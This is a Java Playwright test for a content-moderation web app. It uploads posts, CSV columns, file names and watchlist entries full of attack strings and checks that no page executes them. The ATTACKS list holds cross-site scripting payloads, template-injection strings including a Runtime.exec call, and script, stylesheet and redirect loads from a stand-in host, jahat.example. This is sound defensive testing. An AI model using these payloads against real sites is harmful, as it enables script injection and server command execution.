package ronda.tour;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;
import com.microsoft.playwright.options.FilePayload;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

/**
 * Posts that try to run a script in the reviewer's browser, on every page that shows them. A {@link
 * Visitor} complains of any dialog, any script error and any request to elsewhere.
 */
class HostilePostsTest {
  /** The last word stands in no other post, so that a search finds these posts only. */
  private static final String BAIT =
      " main di CONTOH88 gacor maxwin, daftar bosku wa 0812-0000-7700 kelabang";

  private static final List<String> ATTACKS =
      List.of(
          "<script>alert(1)</script>",
          "\"><script src=https://jahat.example/x.js></script>",
          "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "<a href=\"javascript:alert(1)\">klik</a>",
          "</title></textarea></script><script>alert(1)</script>",
          "<style>@import 'https://jahat.example/x.css'</style>",
          "<body onload=alert(1)>",
          "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
          "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
          "th:text=\"${@environment}\" [(${7*7})]",
          "${7*7} #{queue.title} {{7*7}} <%= 7*7 %>",
          "' onmouseover='alert(1)",
          "\u202egacor\u202c <b>tebal</b> &lt;script&gt; &#60;script&#62;",
          "<meta http-equiv=refresh content='0;url=https://jahat.example'>",
          "<form action=https://jahat.example><input name=_csrf></form>",
          "<base href=https://jahat.example/>");

  @TempDir Path folder;

  @Test
  void no_page_runs_what_a_post_says() {
    try (RunningRonda ronda = RunningRonda.up(folder.resolve("home"), "--sample");
        Chromium chromium = new Chromium()) {
      Visitor sari = new Visitor(chromium.person(1280, ColorScheme.LIGHT), ronda.address());
      sari.signIn(ronda.signInLink());
      upload(sari);
      Page page = sari.open("/queue?q=kelabang");
      sari.check("queue of hostile posts");
      List<String> jobs =
          page.locator("a.excerpt").all().stream().map(link -> link.getAttribute("href")).toList();
      assertThat(jobs).isNotEmpty();
      for (String job : jobs) {
        sari.open(job);
        sari.check("hostile job");
        assertThat(page.locator(".post").first().innerText()).contains("CONTOH88");
        for (String list : List.of("/posts", "/accounts")) {
          sari.open(job + list);
          sari.check("hostile job's" + list);
        }
        page.locator("td a[href*='account=']").first().click();
        sari.check("posts of a hostile account");
      }
      String all = everything(sari, jobs);
      assertThat(all).contains("<script>alert(1)</script>", "${7*7}").doesNotContain("49");
      String job = jobOfOnePerson(sari);
      String file = whatBecomesOfOne(sari, job);
      whatIsTypedOrBrought(sari);
      Visitor anisa = new Visitor(chromium.person(1280, ColorScheme.LIGHT), ronda.address());
      anisa.signIn(sari.linkFor("anisa"));
      HostileWords words = new HostileWords(sari, anisa, ATTACKS);
      words.goldenItem(job);
      words.wayOfWorking(file);
      words.warning();
      words.objection(file);
      sari.open("/audit");
      sari.check("audit log of all that");
    }
  }

  /** The case, its account on the watchlist, its evidence, its letter, and a policy tried on it. */
  private static String whatBecomesOfOne(Visitor sari, String job) {
    Page page = sari.open(job);
    String watch = page.locator("a[href^='/watchlist/new']").first().getAttribute("href");
    CaseOfficer officer = new CaseOfficer(sari);
    String file = officer.confirm("<script>alert(1)</script>");
    sari.open(file);
    sari.check("hostile case");
    officer.keepThePosts(file);
    sari.open(file);
    sari.check("case with hostile evidence");
    page.locator("main table a[href^='/evidence/']").first().click();
    sari.check("hostile item of evidence");
    sari.open(watch);
    sari.check("form of a hostile account");
    page.locator("main form button").first().click();
    sari.check("hostile account");
    sari.open("/watchlist");
    sari.check("watchlist with a hostile account");
    officer.writeTheLetterhead("atasan@contoh.invalid", "24h");
    officer.fillTheForm(file);
    sari.check("form of a letter about hostile posts");
    officer.preview();
    sari.check("preview of it");
    officer.write();
    sari.check("letter about hostile posts");
    sari.open("/policies/gambling-promotion");
    page.locator("#days").fill("7");
    page.locator("button[formaction$='/try']").click();
    page.locator("#trial .sum").waitFor();
    sari.check("policy tried on hostile posts");
    sari.open("/audit");
    sari.check("audit log");
    return file;
  }

  /** The columns of a file, and a list of accounts. */
  private static void whatIsTypedOrBrought(Visitor sari) {
    Page page = sari.open("/bring");
    String header = ATTACKS.stream().map(HostilePostsTest::quoted).collect(Collectors.joining(";"));
    String row = ATTACKS.stream().map(HostilePostsTest::quoted).collect(Collectors.joining(";"));
    page.locator("input[type=file]")
        .setInputFiles(csv("<img src=x onerror=alert(1)>.csv", header + "\n" + row + "\n"));
    page.locator("form[action='/bring/file'] button").click();
    assertThat(page.locator("h1").innerText()).contains("kolom");
    sari.check("hostile columns");

    sari.open("/watchlist/import");
    page.locator("#file")
        .setInputFiles(
            csv(
                "daftar.csv",
                ATTACKS.stream()
                    .map(one -> "Instagram,%s,gambling,%s".formatted(quoted(one), quoted(one)))
                    .collect(Collectors.joining("\n", "platform,handle,category,note\n", "\n"))));
    page.locator("main form button").click();
    page.waitForURL("**/watchlist/imports/**");
    sari.check("hostile list of accounts");

    sari.open("/quality");
    sari.check("quality");
  }

  private static String quoted(String words) {
    return '"' + words.replace("\"", "\"\"") + '"';
  }

  private static FilePayload csv(String name, String text) {
    return new FilePayload(name, "text/csv", text.getBytes(StandardCharsets.UTF_8));
  }

  /** Of some hostile posts, each a job of its own, one that a single person decides. */
  private static String jobOfOnePerson(Visitor sari) {
    Page page = sari.page();
    for (int i = 0; i < 6; i++) {
      sari.open("/bring");
      page.locator("textarea")
          .first()
          .fill(
              ATTACKS.get(i)
                  + " slot gacor maxwin wa 0812-0000-88%02d".formatted(i)
                  + " kumbang"
                  + i);
      page.locator("#author").fill(ATTACKS.get(i));
      page.locator("#platform").fill("contoh");
      page.locator("form:has(textarea) button").first().click();
      sari.open("/queue?q=kumbang" + i);
      if (page.locator("a.excerpt").count() == 1) {
        String job = page.locator("a.excerpt").getAttribute("href");
        sari.open(job);
        if (page.locator("h1 ~ p .tag").count() == 0) {
          return job;
        }
      }
    }
    throw new AssertionError("no job of one person among six");
  }

  private static String everything(Visitor sari, List<String> jobs) {
    return jobs.stream()
        .map(
            job ->
                sari.open(job + "/posts").locator(".post").allInnerTexts().stream()
                    .collect(Collectors.joining("\n")))
        .collect(Collectors.joining("\n"));
  }

  private static void upload(Visitor sari) {
    Page page = sari.open("/bring");
    String lines =
        Stream.concat(ATTACKS.stream(), Stream.of("broken"))
            .map(HostilePostsTest::line)
            .collect(Collectors.joining("\n"));
    page.locator("input[type=file]")
        .setInputFiles(
            new FilePayload(
                "<img src=x onerror=alert(1)>.jsonl",
                "application/jsonl",
                lines.getBytes(StandardCharsets.UTF_8)));
    page.locator("form[action='/bring/file'] button").click();
    sari.check("batch of hostile posts");
    sari.open("/bring");
    sari.check("list of batches with a hostile name");
  }

  private static String line(String attack) {
    return attack.equals("broken")
        ? "{\"text\": <script>alert(1)</script>"
        : JsonMapper.shared()
            .createObjectNode()
            .put("text", attack + BAIT)
            .put("author", attack)
            .put("platform", attack)
            .put("url", "javascript:alert(1)//" + attack)
            .toString();
  }
}
